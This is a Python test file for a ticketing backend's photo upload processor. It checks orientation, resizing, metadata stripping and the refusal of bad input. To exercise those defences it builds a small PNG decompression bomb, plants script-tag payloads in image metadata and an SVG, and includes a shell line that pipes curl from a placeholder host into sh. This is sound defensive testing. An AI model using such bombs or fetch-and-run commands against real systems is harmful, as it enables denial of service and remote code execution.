"""backend.tickets.photos.process: what is taken, what is refused, and that only pixels leave.
Every picture is built here with Pillow; no binary fixture is committed."""

import io
import random
import resource
import struct
import warnings
import zlib

import pytest
from PIL import ExifTags, Image, ImageCms

from backend.errors import DomainError, PayloadTooLarge, UnsupportedMediaType, ValidationFailed
from backend.tickets.photos import FULL_SIDE, THUMB_SIDE, process

RED, BLUE, GREEN, WHITE = (255, 0, 0), (0, 0, 255), (0, 160, 0), (255, 255, 255)
SRGB_ICC = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()


def encode(image: Image.Image, fmt: str, **params) -> bytes:
    out = io.BytesIO()
    image.save(out, fmt, **params)
    return out.getvalue()


def flat(colour=RED, size=(32, 24), mode="RGB") -> Image.Image:
    return Image.new(mode, size, colour)


def near(actual, expected, tolerance=12) -> bool:
    return all(abs(a - e) <= tolerance for a, e in zip(actual, expected, strict=True))


def opened(data: bytes) -> Image.Image:
    image = Image.open(io.BytesIO(data))
    image.load()
    return image


def segments_before_scan(jpeg: bytes) -> list[int]:
    """The marker of every JPEG segment up to the first scan (where metadata would be)."""
    assert jpeg[:2] == b"\xff\xd8"
    markers, at = [], 2
    while jpeg[at + 1] != 0xDA:  # SOS
        marker, length = jpeg[at + 1], struct.unpack(">H", jpeg[at + 2 : at + 4])[0]
        markers.append(marker)
        at += 2 + length
    return markers


def png_chunk(kind: bytes, body: bytes) -> bytes:
    crc = zlib.crc32(kind + body)
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", crc)


def blank_png(width: int, height: int) -> bytes:
    """A real, valid 1-bit PNG of width×height blank pixels: tens of KB on the wire,
    hundreds of MB once decoded (a decompression bomb)."""
    rows = bytes(1 + (width + 7) // 8) * 1000  # filter byte + packed pixels, 1000 rows
    packer = zlib.compressobj(9)
    idat = b"".join(packer.compress(rows) for _ in range(height // 1000)) + packer.flush()
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", header)
        + png_chunk(b"IDAT", idat)
        + png_chunk(b"IEND", b"")
    )


def phone_jpeg() -> bytes:
    """60×40 as stored, red top-left corner, taken with the phone turned (Orientation 6 =
    rotate 90° clockwise to show), with GPS, a camera name, XMP, an ICC profile, a comment."""
    image = flat(BLUE, (60, 40))
    image.paste(RED, (0, 0, 15, 10))
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = 6
    exif[ExifTags.Base.Make] = "LinliPhone"
    exif.get_ifd(ExifTags.IFD.GPSInfo).update(
        {
            ExifTags.GPS.GPSLatitudeRef: "N",
            ExifTags.GPS.GPSLatitude: (24.0, 55.0, 12.0),
            ExifTags.GPS.GPSLongitudeRef: "E",
            ExifTags.GPS.GPSLongitude: (118.0, 11.0, 6.0),
            ExifTags.GPS.GPSMapDatum: "WGS-84",
        }
    )
    xmp = b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF>GPSLatitude</rdf:RDF></x:xmpmeta>'
    return encode(
        image, "JPEG", exif=exif, xmp=xmp, icc_profile=SRGB_ICC, comment=b"<script>x</script>"
    )


# -- what is taken, and how it comes out -------------------------------------------------


def test_jpeg_from_a_phone_comes_out_upright():
    photo = process(phone_jpeg())

    full = opened(photo.full)
    assert (photo.width, photo.height) == full.size == (40, 60)
    assert near(full.getpixel((35, 3)), RED)  # the stored top-left is now top-right
    assert near(full.getpixel((3, 3)), BLUE)
    assert photo.source_format == "JPEG"


# What each EXIF Orientation asks to show, undone: how a camera stores an upright scene.
STORED_AS = {
    1: None,
    2: Image.Transpose.FLIP_LEFT_RIGHT,
    3: Image.Transpose.ROTATE_180,
    4: Image.Transpose.FLIP_TOP_BOTTOM,
    5: Image.Transpose.TRANSPOSE,
    6: Image.Transpose.ROTATE_90,  # shown turned 90° clockwise
    7: Image.Transpose.TRANSVERSE,
    8: Image.Transpose.ROTATE_270,  # shown turned 90° anticlockwise
}


def with_orientation(upright: Image.Image, orientation: int) -> bytes:
    turn = STORED_AS[orientation]
    stored = upright.transpose(turn) if turn is not None else upright
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = orientation
    return encode(stored, "JPEG", exif=exif)


@pytest.mark.parametrize("orientation", STORED_AS)
def test_every_exif_orientation_comes_out_upright_and_unmirrored(orientation):
    upright = flat(BLUE, (80, 120))
    upright.paste(RED, (0, 0, 24, 24))  # top left
    upright.paste(GREEN, (56, 0, 80, 24))  # top right: a mirror image would swap them

    photo = process(with_orientation(upright, orientation))

    for data in (photo.full, photo.thumb):
        image = opened(data)
        assert image.size == (80, 120)
        assert near(image.getpixel((10, 10)), RED, tolerance=30)
        assert near(image.getpixel((70, 10)), GREEN, tolerance=30)
        assert near(image.getpixel((40, 100)), BLUE, tolerance=30)


def test_a_turned_panorama_is_scaled_down_then_upright(monkeypatch):
    from PIL.JpegImagePlugin import JpegImageFile

    upright = flat(BLUE, (1200, 9000))
    upright.paste(RED, (0, 0, 1200, 3000))  # the top third
    decoded = []
    load = JpegImageFile.load
    monkeypatch.setattr(JpegImageFile, "load", lambda self: decoded.append(self.size) or load(self))

    photo = process(with_orientation(upright, 6))

    full = opened(photo.full)
    assert (photo.width, photo.height) == full.size == (546, FULL_SIDE)
    assert near(full.getpixel((273, 500)), RED) and near(full.getpixel((273, 3500)), BLUE)
    assert opened(photo.thumb).size == (64, THUMB_SIDE)
    # libjpeg decoded it at half scale: 4500×600 (as stored) still covers 4096.
    assert decoded[0] == (4500, 600)


def test_no_exif_gps_xmp_icc_or_comment_survives():
    source = phone_jpeg()
    for trace in (b"Exif", b"WGS-84", b"LinliPhone", b"ns.adobe.com/xap", b"ICC_PROFILE"):
        assert trace in source  # the fixture really carries it

    photo = process(source)

    for data in (photo.full, photo.thumb):
        image = opened(data)
        assert len(image.getexif()) == 0
        assert not {"exif", "xmp", "icc_profile", "comment"} & set(image.info)
        for trace in (b"Exif", b"GPS", b"WGS-84", b"LinliPhone", b"xap", b"ICC", b"<script"):
            assert trace not in data
        markers = segments_before_scan(data)
        assert 0xFE not in markers  # COM
        assert not [m for m in markers if 0xE1 <= m <= 0xEF]  # APP1…APP15: EXIF, XMP, ICC


@pytest.mark.parametrize(
    ("fmt", "params", "source_format"),
    [
        ("JPEG", {}, "JPEG"),
        ("PNG", {}, "PNG"),
        ("WEBP", {"lossless": True}, "WEBP"),
        ("WEBP", {"quality": 80}, "WEBP"),
    ],
)
def test_jpeg_png_and_webp_are_taken_and_come_out_as_jpeg(fmt, params, source_format):
    photo = process(encode(flat(GREEN, (64, 48)), fmt, **params))

    assert photo.source_format == source_format
    full = opened(photo.full)
    assert full.format == "JPEG" and full.mode == "RGB" and full.size == (64, 48)
    assert near(full.getpixel((32, 24)), GREEN)
    assert opened(photo.thumb).format == "JPEG"


def _half_transparent(mode: str) -> Image.Image:
    """Left half fully transparent, right half opaque green (black in grey modes)."""
    if mode == "P":
        image = Image.new("P", (40, 40), 0)
        image.putpalette([255, 0, 255, *GREEN])
        image.paste(1, (20, 0, 40, 40))
        image.info["transparency"] = 0
        return image
    image = Image.new("RGBA", (40, 40), (255, 0, 255, 0))
    image.paste((*GREEN, 255), (20, 0, 40, 40))
    return image.convert(mode)


@pytest.mark.parametrize(
    ("mode", "fmt", "opaque"),
    [
        ("RGBA", "PNG", GREEN),
        ("LA", "PNG", (93, 93, 93)),  # green in grey: L = 0.587 × 160
        ("P", "PNG", GREEN),
        ("RGBA", "WEBP", GREEN),
    ],
)
def test_transparency_is_laid_on_white(mode, fmt, opaque):
    params = {"lossless": True} if fmt == "WEBP" else {}

    full = opened(process(encode(_half_transparent(mode), fmt, **params)).full)

    assert full.mode == "RGB"
    assert near(full.getpixel((5, 20)), WHITE)
    assert near(full.getpixel((35, 20)), opaque)


@pytest.mark.parametrize(
    ("fmt", "params", "source_format"),
    [("PNG", {}, "PNG"), ("WEBP", {"lossless": True}, "WEBP"), ("MPO", {}, "JPEG")],
    ids=["apng", "animated-webp", "mpo"],
)
def test_only_the_first_frame_of_an_animation_or_mpo_is_kept(fmt, params, source_format):
    data = encode(flat(RED), fmt, save_all=True, append_images=[flat(BLUE)], **params)

    photo = process(data)

    assert photo.source_format == source_format  # an MPO is a phone's JPEG
    assert near(opened(photo.full).getpixel((16, 12)), RED)


@pytest.mark.parametrize(
    ("image", "fmt", "expected"),
    [
        (flat(0x80, mode="L"), "PNG", (128, 128, 128)),
        (flat(1, mode="1"), "PNG", WHITE),
        (flat((0, 255, 255, 0), mode="CMYK"), "JPEG", RED),
        (flat(0x8000, mode="I;16"), "PNG", (128, 128, 128)),  # not clipped to white
    ],
    ids=["grey", "1-bit", "cmyk-jpeg", "16-bit-grey"],
)
def test_other_colour_modes_come_out_as_the_same_rgb(image, fmt, expected):
    full = opened(process(encode(image, fmt)).full)

    assert full.mode == "RGB"
    assert near(full.getpixel((16, 12)), expected)


def icc_rgb(red, green, blue) -> bytes:
    """A minimal ICC v2 RGB display profile with these primaries (XYZ, D50) and gamma 2.2."""

    def xyz(x, y, z):
        return b"XYZ \0\0\0\0" + struct.pack(">3i", *(round(v * 65536) for v in (x, y, z)))

    gamma = b"curv\0\0\0\0" + struct.pack(">IH", 1, 0x0233) + b"\0\0"
    tags = {b"wtpt": xyz(0.9642, 1.0, 0.8249), b"rXYZ": xyz(*red), b"gXYZ": xyz(*green)}
    tags |= {b"bXYZ": xyz(*blue), b"rTRC": gamma, b"gTRC": gamma, b"bTRC": gamma}
    offset, table, body = 132 + 12 * len(tags), struct.pack(">I", len(tags)), b""
    for signature, data in tags.items():
        table += signature + struct.pack(">II", offset + len(body), len(data))
        body += data
    header = struct.pack(">I", offset + len(body)) + b"lcms\x02\x10\0\0mntrRGB XYZ "
    header += bytes(12) + b"acsp" + bytes(28) + xyz(0.9642, 1.0, 0.8249)[8:]
    return header.ljust(128, b"\0") + table + body


# sRGB's primaries adapted to D50; a profile with red and green swapped shows stored red as green.
SRGB_RED = (0.4361, 0.2225, 0.0139)
SRGB_GREEN = (0.3851, 0.7169, 0.0971)
SRGB_BLUE = (0.1431, 0.0606, 0.7141)


@pytest.mark.parametrize(
    ("icc", "stored", "shown"),
    [
        (SRGB_ICC, GREEN, GREEN),
        (icc_rgb(SRGB_GREEN, SRGB_RED, SRGB_BLUE), RED, (0, 255, 0)),
        (b"not a colour profile", GREEN, GREEN),  # ignored, not a 500
    ],
    ids=["srgb", "red-green-swapped", "garbage"],
)
def test_an_icc_profile_is_applied_then_dropped(icc, stored, shown):
    photo = process(encode(flat(stored), "PNG", icc_profile=icc))

    full = opened(photo.full)
    assert "icc_profile" not in full.info
    assert near(full.getpixel((16, 12)), shown, tolerance=20)


def test_a_jpeg_comment_is_not_carried_over():
    # Pillow's JPEG encoder writes the source's info["comment"] when not given one.
    photo = process(encode(flat(), "JPEG", comment=b"<script>alert(1)</script>"))

    assert b"<script" not in photo.full and "comment" not in opened(photo.full).info


def test_damaged_exif_is_dropped_quietly():
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "LinliPhone" * 5
    data = encode(flat(), "JPEG", exif=exif.tobytes()[:-20])  # cut inside the camera name

    with warnings.catch_warnings():
        warnings.simplefilter("error")  # Pillow's "Truncated File Read" would fail here
        photo = process(data)

    assert len(opened(photo.full).getexif()) == 0


def test_png_named_jpg_with_a_script_inside_and_after_is_taken_as_png_without_it(tmp_path):
    from PIL.PngImagePlugin import PngInfo

    script = b"<script>alert(1)</script>"
    info = PngInfo()
    info.add_text("Comment", script.decode())
    path = tmp_path / "photo.jpg"
    path.write_bytes(encode(flat(GREEN), "PNG", pnginfo=info) + script)  # after IEND
    data = path.read_bytes()
    assert data.count(script) == 2

    photo = process(data)

    assert photo.source_format == "PNG"
    for output in (photo.full, photo.thumb):
        assert output.startswith(b"\xff\xd8") and opened(output).format == "JPEG"
        assert b"<script" not in output


@pytest.mark.parametrize("fmt", ["PNG", "JPEG"])
@pytest.mark.parametrize(
    ("size", "full", "thumb"),
    [
        ((5000, 1000), (FULL_SIDE, 819), (THUMB_SIDE, 96)),
        ((1000, 5000), (819, FULL_SIDE), (96, THUMB_SIDE)),
        ((800, 600), (800, 600), (THUMB_SIDE, 360)),
        ((300, 200), (300, 200), (300, 200)),  # never enlarged
    ],
)
def test_full_is_capped_at_4096_and_thumb_at_480_keeping_the_aspect(size, full, thumb, fmt):
    # 5000 wide is under twice 4096: a JPEG is decoded whole, never below what is kept.
    photo = process(encode(flat(GREEN, size), fmt))

    assert (photo.width, photo.height) == opened(photo.full).size == full
    assert opened(photo.thumb).size == thumb


# -- what is refused -----------------------------------------------------------------------


def _truncated_jpeg() -> bytes:
    data = encode(Image.effect_noise((64, 48), 50).convert("RGB"), "JPEG")
    return data[: len(data) // 2]


NOT_PHOTOS = {
    "gif": lambda: encode(flat(), "GIF"),
    "bmp": lambda: encode(flat(), "BMP"),
    "tiff": lambda: encode(flat(), "TIFF"),
    "avif": lambda: encode(flat(), "AVIF"),
    "jpeg2000": lambda: encode(flat(), "JPEG2000"),
    "ico": lambda: encode(flat(), "ICO"),
    "pdf": lambda: encode(flat(), "PDF"),
    "svg": lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    "text": lambda: "3号楼电梯坏了，请尽快处理".encode(),
    "script": lambda: b"#!/bin/sh\ncurl http://example.invalid | sh\n",
    "truncated-jpeg": _truncated_jpeg,
    "jpeg-header-only": lambda: encode(flat(), "JPEG")[:20],
    "png-signature-then-junk": lambda: b"\x89PNG\r\n\x1a\n" + b"junk" * 50,
    "webp-riff-then-junk": lambda: b"RIFF\x00\x01\x00\x00WEBPVP8 " + b"junk" * 50,
}


@pytest.mark.parametrize("name", NOT_PHOTOS)
def test_anything_but_an_intact_jpeg_png_or_webp_is_415(name):
    with pytest.raises(UnsupportedMediaType) as refused:
        process(NOT_PHOTOS[name]())

    error = refused.value
    assert (error.status, error.code) == (415, "unsupported_photo")
    assert error.message == "仅支持 JPG、PNG、WebP 格式的照片"
    assert error.fields == {"file": [error.message]}


def test_empty_file_is_422():
    with pytest.raises(ValidationFailed) as refused:
        process(b"")

    assert refused.value.status == 422
    assert (refused.value.message, refused.value.fields) == ("照片为空", {"file": ["照片为空"]})


def test_more_than_10_mb_is_413_before_anything_is_read():
    with pytest.raises(PayloadTooLarge) as refused:
        process(b"\xff" * (10 * 1024 * 1024 + 1))

    error = refused.value
    assert (error.status, error.code, error.message) == (
        413,
        "photo_too_large",
        "照片不能超过 10 MB",
    )
    assert error.fields == {"file": ["照片不能超过 10 MB"]}


def test_max_bytes_is_inclusive():
    data = encode(flat(), "JPEG")

    assert process(data, max_bytes=len(data)).source_format == "JPEG"
    with pytest.raises(PayloadTooLarge):
        process(data, max_bytes=len(data) - 1)


def test_max_pixels_is_inclusive_and_one_row_more_is_413():
    assert process(encode(flat(size=(100, 100)), "PNG"), max_pixels=10_000).width == 100

    with pytest.raises(PayloadTooLarge) as refused:
        process(encode(flat(size=(100, 101)), "PNG"), max_pixels=10_000)

    error = refused.value
    assert (error.status, error.code) == (413, "photo_too_large")
    assert error.message == "照片像素过多（不超过 1 万像素），请缩小后再上传"


@pytest.mark.parametrize(
    ("side", "max_pixels", "limit"),
    [
        (20_000, 40_000_000, "4000"),  # past twice Pillow's limit: DecompressionBombError
        (7_000, 40_000_000, "4000"),  # under Pillow's limit, over ours: our header check
        # Between Pillow's limit and twice it Pillow only warns: the warning is made an error,
        # so even a caller allowing 1,000 MP is stopped at Pillow's limit (89.5 MP).
        (10_000, 1_000_000_000, "100000"),
    ],
)
def test_decompression_bomb_is_413_without_decoding_it(side, max_pixels, limit):
    bomb = blank_png(side, side)
    assert len(bomb) < 200_000
    filters, pillow_limit = list(warnings.filters), Image.MAX_IMAGE_PIXELS
    peak_before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss  # KiB on Linux

    with pytest.raises(PayloadTooLarge) as refused:
        process(bomb, max_pixels=max_pixels)

    assert (refused.value.status, refused.value.code) == (413, "photo_too_large")
    assert refused.value.message == f"照片像素过多（不超过 {limit} 万像素），请缩小后再上传"
    # Decoding would take side² bytes (49 MB to 400 MB), three times that as RGB. (A guard
    # against the gigabyte case: a peak already higher would hide a smaller allocation.)
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - peak_before < 30_000
    assert (list(warnings.filters), Image.MAX_IMAGE_PIXELS) == (filters, pillow_limit)


def test_damaged_bytes_are_never_anything_but_a_photo_or_a_domain_error():
    sources = [
        phone_jpeg(),
        encode(_half_transparent("RGBA"), "PNG"),
        encode(flat(), "WEBP"),
        encode(flat(), "PNG", save_all=True, append_images=[flat(BLUE)]),
    ]
    rng = random.Random(6)
    for _ in range(400):
        data = bytearray(rng.choice(sources))
        if rng.random() < 0.3:
            data = data[: rng.randrange(1, len(data))]
        else:
            for _flip in range(rng.choice((1, 3, 10))):
                data[rng.randrange(len(data))] = rng.randrange(256)
        try:
            process(bytes(data))
        except DomainError as error:  # anything else would be a 500
            assert error.status in (413, 415)
